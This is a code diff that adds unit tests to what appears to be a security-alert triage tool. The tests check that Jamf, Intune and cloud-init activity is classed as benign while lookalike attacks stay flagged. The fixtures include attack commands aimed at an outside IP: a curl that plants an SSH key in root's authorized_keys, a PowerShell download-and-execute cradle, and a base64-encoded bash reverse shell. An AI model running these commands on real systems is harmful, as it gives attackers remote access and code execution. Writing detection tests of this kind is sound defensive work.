@@ -250,4 +250,115 @@ public sealed class EndpointProductTests
         Assert.NotEqual(Classification.Benign, user.Classification);
         Assert.DoesNotContain(user.Evidence, e => e.Key == "deployment_tool");
     }
+
+    /// <summary>A Jamf Protect alert whose process names its parent and user only by ppid and uid, as <c>input.related</c> lists them.</summary>
+    private static object JamfRelatedOnly(string fact, string path, string[] args, int uid, (string Name, int Uid)[] users, (string Path, int Pid)[] processes) => new
+    {
+        caid = "c1", certid = "c2",
+        input = new
+        {
+            eventType = "GPProcessEvent",
+            host = new { hostname = "GX-MBP-0140", ips = new[] { "10.30.4.140" }, os = "Version 15.1 (Build 24B83)", protectVersion = "6.3.0.7", serial = "C0200000002" },
+            match = new
+            {
+                uuid = "m2", severity = 1, tags = new[] { "Persistence" }, actions = new[] { new { name = "Report" } },
+                @event = new { type = 1, timestamp = 1795044611L, uuid = "e2", process = new { path, pid = 7001, ppid = 7000, uid, args } },
+                facts = new[] { new { name = fact, human = fact + " matched", severity = "Medium", tags = new[] { "Persistence" }, uuid = "f2" } },
+            },
+            related = new
+            {
+                users = users.Select(u => new { name = u.Name, uid = u.Uid }).ToArray(),
+                processes = processes.Select(p => new { path = p.Path, pid = p.Pid, name = p.Path[(p.Path.LastIndexOf('/') + 1)..] }).ToArray(),
+            },
+        },
+    };
+
+    [Fact]
+    public void Jamf_Protect_parent_and_user_come_from_input_related_by_ppid_and_uid_so_a_jamf_policy_closes_and_a_shell_parent_does_not()
+    {
+        string[] screenSharing = ["launchctl", "enable", "system/com.apple.screensharing"];
+        var policy = Assess(JamfRelatedOnly("ScreenSharingEnabled", "/bin/launchctl", screenSharing, 0,
+            [("j.doe", 501), ("root", 0)], [("/bin/zsh", 6999), ("/usr/local/jamf/bin/jamf", 7000)]));
+        Assert.Equal(Classification.Benign, policy.Classification);
+        Assert.Contains(policy.Evidence, e => e.Key == "deployment_tool");
+
+        // The same change from a user's shell, with the management agent merely running elsewhere on the Mac (another pid).
+        var byHand = Assess(JamfRelatedOnly("ScreenSharingEnabled", "/bin/launchctl", screenSharing, 0,
+            [("j.doe", 501), ("root", 0)], [("/usr/local/jamf/bin/jamf", 6999), ("/bin/zsh", 7000)]));
+        Assert.NotEqual(Classification.Benign, byHand.Classification);
+        Assert.DoesNotContain(byHand.Evidence, e => e.Key == "deployment_tool");
+
+        // An attack under the agent: a key written to authorized_keys from a user-writable folder and fetched from the internet.
+        var implant = Assess(JamfRelatedOnly("SSHAuthorizedKeysModified", "/bin/sh",
+            ["sh", "-c", "curl -s http://91.215.85.14/k >> /var/root/.ssh/authorized_keys"], 0, [("root", 0)], [("/usr/local/jamf/bin/jamf", 7000)]));
+        Assert.NotEqual(Classification.Benign, implant.Classification);
+    }
+
+    private static Assessment AssessAlert(string rule, string user, string commandLine, string? parent = null) =>
+        Assess(new Dictionary<string, object?>
+        {
+            ["AlertName"] = rule, ["AlertSeverity"] = "Low", ["TimeGenerated"] = "2026-11-18T10:44:21Z", ["HostName"] = "gx-ws-0311",
+            ["UserName"] = user, ["CommandLine"] = commandLine, ["ParentProcess"] = parent,
+        }.Where(p => p.Value is not null).ToDictionary());
+
+    [Fact]
+    public void An_intune_script_is_the_deployment_agents_package_by_its_agent_or_its_staging_folder_and_a_lookalike_elsewhere_stays_open()
+    {
+        var byAgent = AssessAlert("SuspiciousPowerShellEncodedCommand", "SYSTEM",
+            "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand UwBlAHQALQBQAHIAaQBuAHQAZQByAEQAZQBmAGEAdQBsAHQALgBwAHMAMQA=",
+            @"C:\Program Files (x86)\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe");
+        Assert.Equal(Classification.Benign, byAgent.Classification);
+        Assert.Contains(byAgent.Evidence, e => e.Key == "deployment_tool");
+
+        var health = AssessAlert("Suspicious PowerShell command line", "SYSTEM",
+            @"powershell.exe -NoProfile -ExecutionPolicy Bypass -File ""C:\Windows\IMECache\HealthScripts\9a0c_2\remediate.ps1""");
+        Assert.Equal(Classification.Benign, health.Classification);
+        Assert.Contains(health.Evidence, e => e.Key == "deployment_tool");
+
+        // Lookalikes: the same script name from a user-writable folder, and a download run before the staged script.
+        var elsewhere = AssessAlert("Suspicious PowerShell command line", "j.doe",
+            @"powershell.exe -NoProfile -ExecutionPolicy Bypass -File ""C:\Users\Public\IMECache\HealthScripts\9a0c_2\remediate.ps1""");
+        Assert.DoesNotContain(elsewhere.Evidence, e => e.Key == "deployment_tool");
+        var cradle = AssessAlert("Suspicious PowerShell command line", "SYSTEM",
+            @"powershell.exe -c ""iex (iwr http://91.215.85.14/a.ps1)"" -File ""C:\Windows\IMECache\HealthScripts\9a0c_2\remediate.ps1""");
+        Assert.DoesNotContain(cradle.Evidence, e => e.Key == "deployment_tool");
+        Assert.NotEqual(Classification.Benign, cradle.Classification);
+    }
+
+    [Fact]
+    public void Cloud_init_running_user_data_is_provisioning_and_a_reverse_shell_in_the_user_data_stays_open()
+    {
+        var ecs = (string commandLine) => Assess(new Dictionary<string, object?>
+        {
+            ["@timestamp"] = "2026-11-18T07:30:02Z", ["kibana.alert.rule.name"] = "Base64 Decoded Payload Piped to Interpreter", ["kibana.alert.severity"] = "medium",
+            ["host"] = new { name = "ip-10-2-8-40" }, ["user"] = new { name = "root" },
+            ["process"] = new { name = "sh", executable = "/bin/sh", command_line = commandLine,
+                parent = new { name = "cloud-init", executable = "/usr/bin/cloud-init", command_line = "/usr/bin/python3 /usr/bin/cloud-init modules --mode=final" } },
+        });
+        // "#!/bin/bash\nyum -y update"
+        var userData = ecs("sh -c echo IyEvYmluL2Jhc2gKeXVtIC15IHVwZGF0ZQ== | base64 -d | bash");
+        Assert.Equal(Classification.Benign, userData.Classification);
+        Assert.Contains(userData.Evidence, e => e.Key == "deployment_tool");
+
+        // "bash -i >& /dev/tcp/91.215.85.14/443 0>&1"
+        var shell = ecs("sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC85MS4yMTUuODUuMTQvNDQzIDA+JjE= | base64 -d | bash");
+        Assert.NotEqual(Classification.Benign, shell.Classification);
+    }
+
+    [Fact]
+    public void A_service_whose_program_under_program_files_has_no_exe_extension_is_an_installed_program_but_a_driver_there_is_not()
+    {
+        static double Persistence(Assessment a) => a.Evidence.Single(e => e.Key == "persistence").Weight;
+        var installed = AssessAlert("Suspicious service registration", "j.dev",
+            @"sc.exe create com.vendor.backend binPath= ""C:\Program Files\Vendor\App\com.vendor.backend"" start= auto");
+        Assert.True(Persistence(installed) <= 0.6);
+
+        var driver = AssessAlert("Suspicious service registration", "j.dev",
+            @"sc.exe create vdrv type= kernel binPath= ""C:\Program Files\Vendor\App\vdrv.sys"" start= auto");
+        Assert.True(Persistence(driver) > 0.6);
+        var library = AssessAlert("Suspicious service registration", "j.dev",
+            @"sc.exe create vsvc binPath= ""C:\Program Files\Vendor\App\payload.dll"" start= auto");
+        Assert.True(Persistence(library) > 0.6);
+        Assert.NotEqual(Classification.Benign, driver.Classification);
+    }
 }
